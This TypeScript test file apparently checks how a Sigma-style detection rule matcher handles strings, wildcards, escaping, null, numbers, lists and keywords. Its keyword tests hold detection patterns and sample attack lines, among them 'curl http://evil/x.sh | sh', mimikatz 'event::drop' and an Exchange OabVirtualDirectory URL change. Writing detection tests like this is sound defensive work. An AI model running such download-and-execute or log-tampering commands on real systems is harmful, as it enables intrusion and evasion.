/** Value semantics (rules spec v2, "General", "String Wildcard", "Escaping", "Lists", "Maps", "Special Field Values"). */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { event, matches } from './helpers.js';

const one = (value: string) => `sel:\n  f: ${value}\ncondition: sel`;

describe('strings', () => {
  it('compare case-insensitively by default', () => {
    assert.equal(matches(one("'Kube-System'"), event({ f: 'kube-system' })), true);
    assert.equal(matches(one("'kube-system'"), event({ f: 'kube-systems' })), false);
  });

  it('treat * as any run and ? as one character', () => {
    assert.equal(matches(one("'sys*.exe'"), event({ f: 'System32.EXE' })), true);
    assert.equal(matches(one("'sys*.exe'"), event({ f: 'System32.dll' })), false);
    assert.equal(matches(one("'prog?.exe'"), event({ f: 'progA.exe' })), true);
    assert.equal(matches(one("'prog?.exe'"), event({ f: 'progAB.exe' })), false);
    assert.equal(matches(one("'a*b*c'"), event({ f: 'aXXbYYc' })), true);
    assert.equal(matches(one("'a*b*c'"), event({ f: 'aXXcYYb' })), false);
  });

  it('escape wildcards with a backslash', () => {
    assert.equal(matches(one("'what\\?'"), event({ f: 'what?' })), true);
    assert.equal(matches(one("'what\\?'"), event({ f: 'whatX' })), false);
    assert.equal(matches(one("'a\\*b'"), event({ f: 'a*b' })), true);
    assert.equal(matches(one("'a\\*b'"), event({ f: 'aXXb' })), false);
  });

  it('read \\\\* as a backslash then a wildcard, and \\\\\\* as backslash and literal star', () => {
    assert.equal(matches(one("'C:\\\\*'"), event({ f: 'C:\\Windows' })), true);
    assert.equal(matches(one("'C:\\\\*'"), event({ f: 'C:Windows' })), false);
    assert.equal(matches(one("'C:\\\\\\*'"), event({ f: 'C:\\*' })), true);
    assert.equal(matches(one("'C:\\\\\\*'"), event({ f: 'C:\\Windows' })), false);
  });

  it('keep a single backslash not before a wildcard literal, and \\\\\\\\ as two', () => {
    assert.equal(matches(one("'C:\\Windows\\cmd.exe'"), event({ f: 'c:\\windows\\cmd.exe' })), true);
    assert.equal(matches(one("'a\\\\\\\\b'"), event({ f: 'a\\\\b' })), true);
    assert.equal(matches(one("'a\\\\\\\\b'"), event({ f: 'a\\b' })), false);
  });

  it('match the empty string only against an empty value', () => {
    assert.equal(matches(one("''"), event({ f: '' })), true);
    assert.equal(matches(one("''"), event({ f: 'x' })), false);
    assert.equal(matches(one("''"), event({})), false);
  });
});

describe('null', () => {
  it('matches a missing or null field, not a present value', () => {
    assert.equal(matches(one('null'), event({})), true);
    assert.equal(matches(one('null'), event({ f: null })), true);
    assert.equal(matches(one('null'), event({ f: '' })), false);
    assert.equal(matches(one('null'), event({ f: 'x' })), false);
  });

  it('negated in the condition means present (the spec\'s "not null" idiom)', () => {
    const rule = 'sel:\n  g: x\nfilter:\n  f: null\ncondition: sel and not filter';
    assert.equal(matches(rule, event({ g: 'x', f: 'v' })), true);
    assert.equal(matches(rule, event({ g: 'x' })), false);
  });
});

describe('numbers and booleans', () => {
  it('compare numerically, also against numbers carried as text', () => {
    assert.equal(matches(one('403'), event({ f: 403 })), true);
    assert.equal(matches(one('403'), event({ f: '403' })), true);
    assert.equal(matches(one('403'), event({ f: 4030 })), false);
  });

  it('booleans match booleans or their text', () => {
    assert.equal(matches(one('true'), event({ f: true })), true);
    assert.equal(matches(one('true'), event({ f: 'True' })), true);
    assert.equal(matches(one('true'), event({ f: false })), false);
  });

  it('a quoted number is a string', () => {
    assert.equal(matches(one("'0x17'"), event({ f: '0x17' })), true);
    assert.equal(matches(one("'0x17'"), event({ f: 23 })), false);
  });
});

describe('lists and maps', () => {
  it('a value list is an OR', () => {
    const rule = 'sel:\n  f:\n    - a\n    - b\ncondition: sel';
    assert.equal(matches(rule, event({ f: 'B' })), true);
    assert.equal(matches(rule, event({ f: 'c' })), false);
  });

  it('a map is an AND', () => {
    const rule = 'sel:\n  f: a\n  g: b\ncondition: sel';
    assert.equal(matches(rule, event({ f: 'a', g: 'b' })), true);
    assert.equal(matches(rule, event({ f: 'a', g: 'c' })), false);
  });

  it('a list of maps is an OR of ANDs', () => {
    const rule = 'sel:\n  - f: a\n    g: b\n  - h: c\ncondition: sel';
    assert.equal(matches(rule, event({ f: 'a', g: 'b' })), true);
    assert.equal(matches(rule, event({ h: 'c' })), true);
    assert.equal(matches(rule, event({ f: 'a', h: 'x' })), false);
  });

  it('an array in the event matches if any element does', () => {
    assert.equal(matches(one('b'), event({ f: ['a', 'b'] })), true);
    assert.equal(matches(one('c'), event({ f: ['a', 'b'] })), false);
  });

  it('objects never equal a string', () => {
    assert.equal(matches(one('x'), event({ f: { x: 1 } })), false);
  });
});

describe('keywords', () => {
  it('a plain list searches message (anywhere, case-insensitively), ORed', () => {
    const rule = 'keywords:\n  - event::clear\n  - event::drop\ncondition: keywords';
    assert.equal(matches(rule, event({ message: 'mimikatz EVENT::DROP done' })), true);
    assert.equal(matches(rule, event({ message: 'nothing here' })), false);
    assert.equal(matches(rule, event({ other: 'event::drop' })), false);
  });

  it("'|all' ANDs keywords", () => {
    const rule = "keywords:\n  '|all':\n    - OabVirtualDirectory\n    - ' -ExternalUrl '\ncondition: keywords";
    assert.equal(matches(rule, event({ message: 'Set-OabVirtualDirectory -ExternalUrl http://x' })), true);
    assert.equal(matches(rule, event({ message: 'Set-OabVirtualDirectory' })), false);
  });

  it('keywords keep wildcards', () => {
    const rule = "keywords:\n  - 'curl * | sh'\ncondition: keywords";
    assert.equal(matches(rule, event({ message: 'run curl http://evil/x.sh | sh now' })), true);
    assert.equal(matches(rule, event({ message: 'run curl http://evil/x.sh > out' })), false);
  });
});
